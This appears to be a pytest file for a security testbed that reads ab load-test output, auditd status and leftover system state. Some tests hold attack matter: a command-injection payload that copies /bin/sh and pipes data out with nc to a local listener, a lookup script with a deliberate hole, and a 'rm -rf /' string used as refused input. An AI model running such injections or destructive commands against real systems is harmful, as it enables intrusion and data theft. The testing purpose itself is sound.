"""The parts of the testbed that need no root: what is asked of other programs, and how their answers are read."""

from __future__ import annotations

import socket
import threading
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from testbed import kernel, packages, rootfs
from testbed.auditd import Auditd
from testbed.containers import Store
from testbed.image import closure
from testbed.kafka_broker import SETTINGS, _properties
from testbed.ledger import PREFIX, Ledger
from testbed.leftovers import FOREIGN, KINDS, left, leftovers
from testbed.rules import rules
from testbed.tell import TestbedError, escaped, run
from testbed.traffic import Listener, injection, parse_ab
from testbed.worker import in_worker

AB = """\
Concurrency Level:      8
Time taken for tests:   2.173 seconds
Complete requests:      895
Failed requests:        2
Non-2xx responses:      3
Requests per second:    411.83 [#/sec] (mean)

Percentage of the requests served within a certain time (ms)
  50%      6
  99%     59
 100%    913 (longest request)
"""
STATUS = """\
enabled 1
failure 1
pid 17742
rate_limit 0
backlog_limit 65536
lost 12
backlog 3
backlog_wait_time 15000
loginuid_immutable 0 unlocked
"""
DEPENDS = """\
apache2-bin
  Depends: libc6
 |Depends: perl-base
  Depends: perl
  PreDepends: base
<awk>
base
  Depends: <awk>
libc6
  Depends: gcc
gcc
  Depends: libc6
perl
  Depends: libperl
"""


def test_ab_is_read_whole() -> None:
    row = parse_ab(AB)
    assert (row.requests, row.failed, row.seconds, row.rate, row.median, row.p99) == (895, 5, 2.173, 411.83, 6, 59)


def test_ab_that_says_nothing_is_an_error() -> None:
    with pytest.raises(TestbedError, match="ab printed no such figure"):
        parse_ab("apr_socket_recv: Connection refused (111)\n")


def test_the_kernels_answer_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(kernel, "run", lambda argv: STATUS)
    now = kernel.status()
    assert (now.enabled, now.pid, now.lost, now.backlog, now.backlog_limit) == (1, 17742, 12, 3, 65536)


def test_a_locked_configuration_is_said_and_left_alone(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    asked: list[str] = []

    def locked(argv: list[str]) -> str:
        asked.append(argv[1])
        return STATUS.replace("enabled 1", "enabled 2")

    monkeypatch.setattr(kernel, "run", locked)
    with Ledger.begin(tmp_path) as ledger, pytest.raises(TestbedError, match="locked until reboot"):
        kernel.prepare(ledger, backlog=65_536)
    assert asked == ["-s"]


@pytest.mark.parametrize(
    "line",
    ["-a always,exit -F arch=b64 -S execve", "-D", "-e 2", "-w /etc/shadow -p r", "-D -F auid=5001", "-a -F auid=x"],
)
def test_a_rule_that_is_not_for_one_login_uid_is_refused(tmp_path: Path, line: str) -> None:
    with Ledger.begin(tmp_path) as ledger, pytest.raises(TestbedError, match="not a rule for one login uid"):
        Auditd(ledger).add_rules(["# a comment", "", line])


def test_every_rule_of_ours_is_for_one_login_uid() -> None:
    assert all("-F auid=5007 " in line for line in rules(5007, transfers=True))
    assert len(rules(5007, transfers=True)) == len(rules(5007)) + 1


def test_a_worker_is_a_shell_that_becomes_the_command() -> None:
    assert in_worker(None, ["podman", "run"]) == ["podman", "run"]
    assert in_worker(5001, ["podman", "run"])[3:] == ["5001", "podman", "run"]


def test_the_closure_takes_the_first_alternative_and_ends_on_cycles() -> None:
    roots = ["apache2-bin"]
    assert closure(DEPENDS, roots, frozenset()) == ["apache2-bin", "base", "gcc", "libc6", "perl-base"]
    assert closure(DEPENDS, roots, frozenset({"libc6"})) == ["apache2-bin", "base", "perl-base"]


def test_the_script_with_the_hole_starts_no_shell_by_itself() -> None:
    assert 'exec "getent hosts $host"' in rootfs.LOOKUP
    assert "sh" not in rootfs.LOOKUP.split()


def test_the_injection_holds_the_whole_attack_and_refuses_odd_marks() -> None:
    with Listener("127.0.0.1") as listener:
        text = injection(listener, "x17")
        assert text.startswith("localhost; cp /bin/sh /tmp/x17; /tmp/x17 -c ")
        assert f"nc -N 127.0.0.1 {listener.port}" in text
        with pytest.raises(ValueError, match="a mark is"):
            injection(listener, "x; rm -rf /")


def test_the_listener_gives_a_message_whole() -> None:
    def send(port: int) -> None:
        with socket.create_connection(("127.0.0.1", port)) as connection:
            for part in (b"root:", b"x" * 9000):
                connection.sendall(part)

    with Listener("127.0.0.1") as listener:
        sender = threading.Thread(target=send, args=(listener.port,))
        sender.start()
        assert listener.receive() == b"root:" + b"x" * 9000
        sender.join()


def test_podman_is_called_on_folders_of_ours_only(tmp_path: Path) -> None:
    store = Store(tmp_path)
    words = store.podman("ps")
    for option in ("--root", "--runroot", "--tmpdir", "--network-config-dir"):
        assert words[words.index(option) + 1].startswith(str(tmp_path))
    assert store.network_settings() == {}


def test_settings_of_a_broker_cannot_move_its_place(tmp_path: Path) -> None:
    text = _properties({"num.partitions": "4", "log.dirs": "/elsewhere"}, tmp_path, 1, 2)
    lines = dict(line.split("=", 1) for line in text.splitlines())
    assert (lines["num.partitions"], lines["log.dirs"]) == ("4", str(tmp_path))
    assert lines.keys() >= SETTINGS.keys()


def test_what_came_and_what_went_are_both_leftovers() -> None:
    nothing = dict.fromkeys(KINDS, frozenset[str]())
    rule = {**nothing, "audit rule": frozenset({"-a always,exit"})}
    assert leftovers(rule, rule) == []
    assert leftovers(nothing, rule) == ["+ audit rule: -a always,exit"]
    assert leftovers(rule, nothing) == ["- audit rule: -a always,exit"]


def test_what_another_testbed_took_away_is_its_own(monkeypatch: pytest.MonkeyPatch) -> None:
    nothing = dict.fromkeys(KINDS, frozenset[str]())
    monkeypatch.setattr("testbed.leftovers.look", lambda: nothing)
    theirs = {**nothing, "mount": frozenset({f"/var/tmp/{PREFIX}0a"}), "process": frozenset({"7-1 podman"})}
    assert left(theirs, seconds=0) == []
    assert left({**nothing, "audit rule": frozenset({"-a x"})}, seconds=0) == ["- audit rule: -a x"]
    monkeypatch.setattr("testbed.leftovers.look", lambda: theirs)
    assert len(left(nothing, seconds=0)) == 2


def test_where_another_engine_works_what_both_change_is_not_compared(capsys: pytest.CaptureFixture[str]) -> None:
    nothing = dict.fromkeys(KINDS, frozenset[str]())
    after = {**nothing, "network link": frozenset({"veth9"}), "audit rule": frozenset({"-a x"})}
    assert leftovers(nothing, after) == ["+ audit rule: -a x", "+ network link: veth9"]
    assert leftovers({**nothing, FOREIGN: frozenset({"17-4"})}, after) == ["+ audit rule: -a x"]
    assert "not compared" in capsys.readouterr().err


def test_missing_packages_are_named_once(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(packages, "_there", lambda need: False)
    assert packages.missing("audit", "load") == ["auditd", "apache2-utils"]


def test_not_root_is_told_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("os.geteuid", lambda: 1000)
    with pytest.raises(TestbedError, match=r"needs root.*try: sudo"):
        packages.require("audit")


def test_a_command_that_fails_hangs_or_is_missing_is_an_error_that_names_it() -> None:
    with pytest.raises(TestbedError, match=r"sh failed with exit code 3: \\x1b\[2Jno"):
        run(["sh", "-c", "printf '\\033[2Jno' >&2; exit 3"])
    with pytest.raises(TestbedError, match="sleep did not end within"):
        run(["sleep", "9"], timeout=0.1)
    with pytest.raises(TestbedError, match="no-such-program is not installed"):
        run(["no-such-program"])
    assert run(["sh", "-c", "echo out; exit 3"], fails=True) == "out\n"


@given(st.text())
def test_nothing_unprintable_reaches_the_terminal(text: str) -> None:
    """Whatever a program printed, what we show of it is printable."""
    assert escaped(text).isprintable()
